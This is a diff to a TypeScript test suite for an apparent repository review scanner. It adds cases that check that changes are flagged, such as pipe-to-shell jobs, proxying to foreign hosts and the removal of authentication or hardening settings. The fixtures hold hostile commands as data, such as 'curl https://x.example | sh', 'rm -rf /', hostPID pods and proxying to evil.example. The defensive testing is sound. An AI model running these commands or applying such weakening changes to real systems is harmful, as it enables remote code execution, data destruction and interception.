@@ -139,6 +139,7 @@ describe('row 16: what a file is called, and how it is written', () => {
   const POD = 'apiVersion: v1\nkind: Pod\nmetadata: { name: a, namespace: shop }\nspec: { hostPID: true, containers: [{ name: a, image: x }] }\n';
   const KUSTOMIZATION = (text: string): string => `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n${text}`;
   const REPLACEMENTS = (path: string): string => `source: { kind: ConfigMap, name: c, fieldPath: data.x }\ntargets:\n- select: { kind: Deployment }\n  fieldPaths: [${path}]\n`;
+  const PROW = 'periodics:\n- name: x\n  spec:\n    containers:\n    - image: alpine:3.20\n      command: [sh, -c, "curl https://x.example | sh"]\n';
   const job = (name: string): Files => ({ [name]: `job:\n  script:\n    - ${RUNS}` });
   it.each<[rule: string, what: string, head: Files, base?: Files]>([
     ['kubernetes/no-host-namespaces', 'text that kubectl applies', { 'scripts/a.sh': 'kubectl -n shop apply --server-side -f=deploy/x.txt\n', 'deploy/x.txt': POD }], ['kubernetes/no-host-namespaces', 'text that an older script applies', { 'x.txt': POD }, { Makefile: 'deploy:\n\tkubectl apply -f a.yaml,x.txt\n', 'x.txt': 'a' }],
@@ -148,6 +149,9 @@ describe('row 16: what a file is called, and how it is written', () => {
     ['shell/no-root-delete', 'scripts of npm in a file that is run otherwise', { 'scripts/a.sh': 'node package.json\n', 'package.json': '{ "scripts": { "test": "rm -rf /" } }' }],
     ['shell/no-pipe-to-shell', 'text in a folder that is computed', { 'scripts/a.sh': 'sudo -u x bash -euxo pipefail "$(dirname "$0")"/notes.txt\n', 'scripts/notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text of the workspace', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: sh -e ${{ github.workspace }}/data/x.txt\n', 'data/x.txt': RUNS }],
     ['shell/no-pipe-to-shell', 'text that an older script runs', { 'data/x.txt': RUNS }, { 'scripts/a.sh': 'bash data/x.txt\n' }], ['shell/no-pipe-to-shell', 'a script that is called YAML', { 'scripts/a.sh': 'bash data/x.yml\n', 'data/x.yml': RUNS }], ['shell/no-container-escape', 'text that compose starts', { 'scripts/a.sh': 'docker compose -f x.txt up -d\n', 'x.txt': 'services:\n  a: { image: x, privileged: true }\n' }],
+    ['shell/no-pipe-to-shell', 'text that is a command', { 'scripts/a.sh': './notes.txt a\n', 'notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text that is a command, run by a flag', { 'scripts/a.sh': 'bash -ec notes.txt\n', 'notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text that an older script starts', { 'x/notes.txt': RUNS }, { Makefile: 'all:\n\t@"$(DIR)"/notes.txt\n\t@sh -c "./x/notes.txt b"\n' }],
+    ['shell/no-pipe-to-shell', 'text that a job starts', { '.gitlab-ci.yml': 'a:\n  script:\n    - ./notes.txt\n', 'notes.txt': RUNS }], ['kubernetes/no-host-namespaces', 'text that kubectl applies, two lines down', { 'scripts/a.sh': 'kubectl apply \\\n  -f deploy/x.txt\n', 'deploy/x.txt': POD }],
+    ['shell/no-pipe-to-shell', 'jobs of Prow', { 'config/jobs/a.yaml': PROW }], ['code/gate-review', 'jobs of Prow', { 'config/jobs/a.yaml': PROW }],
     ['shell/no-pipe-to-shell', 'jobs that an older pipeline includes', job('foo/bar.yml'), { '.gitlab-ci.yml': 'include:\n  - local: /foo/bar.yml\n' }], ['code/gate-review', 'jobs that an older pipeline includes', job('foo/bar.yml'), { '.gitlab-ci.yml': 'include: foo/bar.yml\n' }],
     ['code/workflow-rights-review', 'a token of a job of a child pipeline', { 'foo/c.yml': 'job:\n  id_tokens: { A: { aud: x } }\n  script: [ls]\n' }, { '.gitlab-ci.yml': 'include: [{ local: "/ci-*/**.yml" }]\n', 'ci-a/x.yml': 'x:\n  trigger: { include: [{ local: foo/c.yml }] }\n' }],
   ])('%s stops %s', async (rule, _what, head, base = {}) => {
@@ -155,7 +159,7 @@ describe('row 16: what a file is called, and how it is written', () => {
   });
   it.each<[what: string, head: Files, base?: Files]>([
     ['what a word of prose stands before', { 'scripts/a.sh': '# source docs/format\necho source docs/format, then make -f\nbash run.sh docs/format\n', 'docs/format': 'some ( words\n' }], ['what a script is told about', { 'data/x.txt': 'some ( words\n', 'data/y.yml': 'a: (b\n' }, { 'scripts/a.sh': 'bash run.sh data/x.txt\nbash -c "grep x data/y.yml"\npython3 -m json.tool data/y.yml\n' }], ['replacements of other things', { 'k/rep.yaml': REPLACEMENTS('spec.replicas') }, { 'k/kustomization.yaml': KUSTOMIZATION('replacements: [{ path: rep.yaml }]\n') }],
-    ['rules of the repository', { 'sub/Makefile': 'include ../x.mk\nall:\n\tls\n' }], ['YAML that no pipeline includes', { 'foo/bar.yml': 'a: { script: [ls] }\n' }, { '.gitlab-ci.yml': 'include: [{ project: a/b, file: foo/bar.yml, ref: main }]\n' }],
+    ['prose that is named where commands are', { 'package.json': '{ "files": ["./README.md"] }', 'scripts/a.sh': 'pandoc \\\n  ./README.md \\\n  -o x\ncp ./README.md x\n', 'README.md': RUNS }], ['rules of the repository', { 'sub/Makefile': 'include ../x.mk\nall:\n\tls\n' }], ['YAML that no pipeline includes', { 'foo/bar.yml': 'a: { script: [ls] }\n' }, { '.gitlab-ci.yml': 'include: [{ project: a/b, file: foo/bar.yml, ref: main }]\n' }],
     ['prose that nobody runs', { 'scripts/a.sh': 'cat docs/notes.txt\n', 'docs/notes.txt': RUNS }], ['text in Latin-1', { 'docs/a.txt': latin(RUNS), 'src/a.py': latin('print("x")\n') }],
   ])('lets pass %s', async (_what, head, base = {}) => {
     expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
@@ -194,6 +198,41 @@ describe('row 16: settings that hold no command', () => {
     ['debian/patches/fix.patch', '--- a/x\n+++ b/x\n'], ['gradle.properties', 'org.gradle.jvmargs=-Xmx1g\nversion=1\n'], ['ansible.cfg', '[defaults]\nforks = 10\n'], ['inventory/prod.ini', '[web]\na.example ansible_user=deploy\n'], ['postgresql.conf', 'work_mem = \'64MB\'\n# archive_command = \'x\'\n'], ['.htaccess', 'RewriteEngine On\n'], ['nginx/conf.d/a.conf', 'server { location / { proxy_pass http://a; } }\n'], ['Caddyfile', 'a.example {\n  reverse_proxy a:80\n}\n'], ['php.ini', 'memory_limit = 1G\n'], ['docs/instructions.md', 'x\n'],
   ])('lets pass %s: %j', async (path, text) => {
     expect(await stoppedBy({ [path]: text })).toEqual([]);
+  });
+});
+
+describe('row 16: what kept something out, and is gone', () => {
+  const P = 'code/protection-review';
+  const CONNECTION = 'code/connection-review';
+  const nginx = (text: string): Files => ({ 'nginx/a.conf': `server {\n  location / {\n    ${text}\n  }\n}\n` });
+  const image = (text: string): Files => ({ Dockerfile: `FROM alpine@sha256:${'0'.repeat(64)} AS a\n${text}\n` });
+  const unit = (text: string): Files => ({ 'a.service': `[Service]\nExecStart=/usr/bin/x\n${text}` });
+  const workflow = (more: string, on = 'push'): Files => ({ '.github/workflows/a.yml': `on: ${on}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps: [{ run: npm test }]\n  deploy:\n    runs-on: ubuntu-24.04\n    steps: [{ run: ls }]\n${more}` });
+  const pipeline = (more: string): Files => ({ '.gitlab-ci.yml': `deploy:\n  script: [ls]\n${more}` });
+  const renamed = (): Files => ({ '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replace('  deploy:', '  ship:') });
+  const definition = (versions: string): Files => ({ 'crd/a.yaml': `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: a.x.example }\nspec:\n  group: x.example\n  versions: [${versions}]\n` });
+  const schema = (properties: string): string => `{ name: v2, served: true, storage: true, schema: { openAPIV3Schema: { type: object, properties: { ${properties} } } } }`;
+  it.each<[rule: string, what: string, head: Files, base: Files]>([
+    [P, 'a password of nginx', nginx('proxy_pass http://a;'), nginx('auth_basic "x"; proxy_pass http://a;')], [P, 'a password of nginx, by a word', nginx('auth_basic off;'), nginx('auth_basic "x";')], [P, 'one of two rules', nginx('allow 10.0.0.0/8;'), nginx('allow 10.0.0.0/8;\n    deny all;')], [P, 'everybody let in', nginx('allow all;\n    deny all;'), nginx('deny all;')],
+    [CONNECTION, 'another machine behind nginx', nginx('proxy_pass http://evil.example;'), nginx('proxy_pass http://a;')], [CONNECTION, 'another machine of a group', { 'nginx/u.conf': 'upstream a {\n  server 203.0.113.5:80;\n}\n' }, { 'nginx/u.conf': 'upstream a {\n  server b:80;\n}\n' }], [CONNECTION, 'another machine behind HAProxy', { 'haproxy.cfg': 'backend a\n  server b evil.example:80\n' }, { 'haproxy.cfg': 'backend a\n  server b a.internal:80\n' }],
+    [P, 'a password of Apache', { 'x/.htaccess': 'Options -Indexes\n' }, { 'x/.htaccess': 'AuthType Basic\nRequire valid-user\nOptions -Indexes\n' }], [P, 'what sshd refused', { 'etc/sshd_config': 'Port 22\n' }, { 'etc/sshd_config': 'Port 22\nPasswordAuthentication no\n' }],
+    [P, 'another user in an image', image('USER root'), image('USER app')], [P, 'no user in an image', image('CMD ["x"]'), image('USER app\nCMD ["x"]')], [P, 'another stage', image('USER app\nFROM alpine:3.20\nCMD ["x"]'), image('USER app\nCMD ["x"]')], [P, 'another user of a unit', unit('User=root\n'), unit('User=app\n')], [P, 'bounds of a unit', unit(''), unit('NoNewPrivileges=yes\n')],
+    [P, 'bounds in a file of their own', {}, { 'etc/x.service.d/hard.conf': '[Service]\nProtectSystem=strict\n' }], [P, 'root by a file of its own', { 'etc/x.service.d/a.conf': '[Service]\nUser=root\n' }, {}], [P, 'a user of compose', { 'compose.yml': 'services:\n  a: { build: . }\n' }, { 'compose.yml': 'services:\n  a:\n    build: .\n    user: "1000"\n' }],
+    [P, 'an environment', workflow(''), workflow('    environment: production\n')], [P, 'an environment under another name', renamed(), workflow('    environment: production\n')], [P, 'another environment', workflow('    environment: { name: dev }\n'), workflow('    environment: production\n')], [P, 'one at a time', workflow(''), workflow('    concurrency: deploy\n')], [P, 'another machine', { '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replaceAll('ubuntu-24.04', 'big') }, workflow('')],
+    [P, 'a job before it', workflow(''), workflow('    needs: test\n')], [P, 'a condition', workflow(''), workflow("    if: github.ref == 'refs/heads/main'\n")], [P, 'a condition that always holds', workflow('    if: always()\n'), workflow('    if: success()\n')], [P, 'branches', workflow('', '\n  push:'), workflow('', '\n  push:\n    branches: [main]')], [P, 'a failure', workflow('    continue-on-error: true\n'), workflow('')],
+    [P, 'an environment of GitLab', pipeline(''), pipeline('  environment: production\n')], [P, 'a hand that starts it', pipeline('  rules: [{ if: $A }]\n'), pipeline('  rules: [{ if: $A, when: manual }]\n')], [P, 'rules', pipeline('  rules: [{ when: always }]\n'), pipeline('  rules: [{ if: $A }]\n')], [P, 'jobs before it', pipeline('  needs: []\n'), pipeline('')], [P, 'another runner', pipeline('  tags: [other]\n'), pipeline('  tags: [docker]\n')], [P, 'a failure on GitLab', pipeline('  allow_failure: true\n'), pipeline('')],
+    ['kubernetes/definition-review', 'a version', definition('{ name: v2, served: true, storage: true }'), definition('{ name: v1, served: true, storage: true }, { name: v2, served: true, storage: false }')], ['kubernetes/definition-review', 'a field', definition(schema('a: { type: string }')), definition(schema('a: { type: string }, b: { type: string }'))],
+  ])('%s stops %s', async (rule, _what, head, base) => {
+    expect(await stoppedBy(head, base)).toContain(rule);
+  });
+  const GATE = ['builtin:protected-file', 'code/gate-review'];
+  it.each<[rules: readonly string[], what: string, head: Files, base: Files]>([
+    [[], 'a password that moved', nginx('auth_basic "y";\n    deny all;'), nginx('deny all;\n    auth_basic "x";')], [[], 'another path of the same machine', nginx('proxy_pass http://b.example/y;'), nginx('proxy_pass http://b.example/x;')], [[], 'a machine beside it', nginx('proxy_pass http://api.shop.svc:80;'), nginx('proxy_pass http://a;')], [[], 'a new server', nginx('auth_basic off;'), {}],
+    [[], 'root for a while', image('USER root\nRUN ls\nUSER app'), image('USER app')], [[], 'a user that stays', image('USER app\nFROM a\nCMD ["y"]'), image('USER app\nFROM a\nCMD ["x"]')], [[], 'a unit that gets more', unit('User=app\nNoNewPrivileges=yes\n'), unit('User=app\n')],
+    [GATE, 'a newer machine', { '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replaceAll('24.04', '26.04') }, workflow('')], [GATE, 'a job between', workflow('    needs: b\n  b:\n    needs: test\n    runs-on: ubuntu-24.04\n    steps: [{ run: a }]\n'), workflow('    needs: test\n')], [GATE, 'rules that stay', pipeline('  rules: [{ if: $A }]\n  stage: b\n'), pipeline('  rules: [{ if: $A }]\n')],
+    [[], 'a version more', definition('{ name: v1, served: true, storage: false }, { name: v2, served: true, storage: true }'), definition('{ name: v1, served: true, storage: true }')],
+  ])('%j stops %s', async (rules, _what, head, base) => {
+    expect([...await stoppedBy(head, base)].sort()).toEqual(rules);
   });
 });
 
